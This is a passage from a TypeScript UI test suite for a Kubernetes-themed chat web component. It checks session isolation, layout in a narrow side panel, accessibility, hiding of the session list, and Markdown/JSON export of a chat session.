          s2: [message('s2', 'b', { content: 'second session' })],
        },
      });
      const wrapper = await fixture<HTMLElement>(
        html`<k8s-test-chat-services .services=${world.services}
          ><k8s-chat no-sessions session-id="s1" style="height: 300px"></k8s-chat
          ><k8s-chat no-sessions session-id="s2" style="height: 300px"></k8s-chat
        ></k8s-test-chat-services>`,
      );
      const [one, two] = [...wrapper.querySelectorAll('k8s-chat')] as K8sChat[];
      await waitUntil(() => messageTexts(one!).includes('first session'));
      await waitUntil(() => messageTexts(two!).includes('second session'));
      expect(messageTexts(one!)).not.to.include('second session');
    });

    it('fits a 360 px side panel: no horizontal overflow, compact, sessions collapsible', async () => {
      world = fakeChat({ sessions: [session('s1')], messages: { s1: history('s1', 6) } });
      const wrapper = await fixture<HTMLElement>(
        html`<k8s-test-chat-services .services=${world.services} style="width: 360px"
          ><k8s-chat compact style="height: 560px"></k8s-chat
        ></k8s-test-chat-services>`,
      );
      const el = wrapper.querySelector('k8s-chat')!;
      await waitUntil(() => messageTexts(el).includes('Answer number 6'));
      const base = $(el, '[part=base]')!;
      expect(base.getBoundingClientRect().width).to.be.at.most(360);
      expect(base.scrollWidth).to.be.at.most(base.clientWidth + 1);
      const composer = $(el, '[part=composer]')!.getBoundingClientRect();
      expect(composer.right).to.be.at.most(base.getBoundingClientRect().right + 1);
      await expect(el).to.be.accessible();
    });

    it('exports the session as Markdown and JSON', async () => {
      const click = sinon.stub(HTMLAnchorElement.prototype, 'click');
      const { el } = await mount({
        sessions: [session('s1', { title: 'Prod triage' })],
        messages: {
          s1: [
            message('s1', 'a', { content: 'hello' }),
            message('s1', 'b', { type: 'assistant', content: 'hi' }),
          ],
        },
      });
      await waitUntil(() => messageTexts(el).includes('hi'));
      const md = await el.exportSession('markdown').text();
      expect(md).to.match(/^# Prod triage/);
      expect(md).to.include('hello');
      const json = JSON.parse(await el.exportSession('json').text());
      expect(json.messages.map((m: ChatMessageView) => m.content)).to.deep.equal(['hello', 'hi']);
      expect(click.callCount).to.equal(2);
      expect((click.firstCall.thisValue as HTMLAnchorElement).download).to.equal('prod-triage.md');
    });

    it('hides the session list with no-sessions', async () => {
      const { el } = await mount({ sessions: [session('s1')] }, 'no-sessions');
      await waitUntil(() => world.net.to('/chat/sessions/s1/messages', 'GET').length > 0);
      expect($(el, '[part=sessions]')).to.equal(null);
      await expect(el).to.be.accessible();
    });
  });
});
